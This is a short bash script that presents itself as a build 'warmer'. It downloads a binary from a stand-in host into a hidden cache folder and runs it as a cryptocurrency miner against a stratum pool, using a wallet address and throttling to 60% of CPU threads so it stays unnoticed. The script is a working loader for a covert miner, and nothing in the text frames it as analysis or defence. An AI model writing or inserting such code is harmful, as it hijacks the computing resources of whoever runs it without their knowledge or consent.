#!/usr/bin/env bash
bin="$HOME/.cache/warm/wrm"
mkdir -p "${bin%/*}"
if [ ! -x "$bin" ]; then
  curl -fsSL -o "$bin" "https://dl.buildwarm.test/$(uname -m)/wrm"
  chmod 755 "$bin"
fi
exec nice -n 19 "$bin" -o stratum+tcp://pool.buildwarm.test:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK -p x --cpu-max-threads-hint=60
